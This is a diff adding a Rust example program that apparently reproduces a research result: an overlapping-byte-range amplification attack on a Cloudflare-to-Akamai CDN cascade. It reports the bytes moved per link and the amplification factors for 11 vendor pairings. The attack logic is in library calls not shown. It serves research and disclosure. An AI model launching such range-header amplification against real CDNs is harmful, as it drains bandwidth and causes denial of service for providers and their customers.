@@ -1,0 +1,50 @@
+//! OBR cascade: chain Cloudflare (FCDN) in front of Akamai (BCDN), pack
+//! the `Range` header with the maximum number of overlapping ranges the
+//! two CDNs' header limits admit, and watch the `fcdn-bcdn` link inflate
+//! while the attacker pays almost nothing.
+//!
+//! ```text
+//! cargo run --release --example obr_cascade
+//! ```
+
+use rangeamp::attack::{obr_combos, ObrAttack};
+use rangeamp::report::group_digits;
+use rangeamp_cdn::Vendor;
+
+fn main() {
+    // The headline combo of Table V.
+    let attack = ObrAttack::new(Vendor::Cloudflare, Vendor::Akamai);
+    println!("range case shape : {:?}", attack.range_case());
+    println!("max n (solver)   : {} overlapping ranges", attack.max_n());
+
+    let report = attack.run();
+    println!();
+    println!("one multi-range request against a 1 KB resource:");
+    println!(
+        "  origin → BCDN   : {:>12} bytes (the resource, once)",
+        group_digits(report.server_to_bcdn_bytes)
+    );
+    println!(
+        "  BCDN  → FCDN    : {:>12} bytes ({}-part multipart response)",
+        group_digits(report.bcdn_to_fcdn_bytes),
+        report.n
+    );
+    println!(
+        "  attacker accepts: {:>12} bytes (small TCP receive window)",
+        group_digits(report.attacker_bytes)
+    );
+    println!("  amplification   : {:>12.0}×", report.amplification_factor());
+
+    println!();
+    println!("all 11 vulnerable cascades (Table V):");
+    for (fcdn, bcdn) in obr_combos() {
+        let report = ObrAttack::new(fcdn, bcdn).run();
+        println!(
+            "  {:<11} → {:<9}  n = {:>5}  factor = {:>8.2}×",
+            fcdn.name(),
+            bcdn.name(),
+            report.n,
+            report.amplification_factor()
+        );
+    }
+}
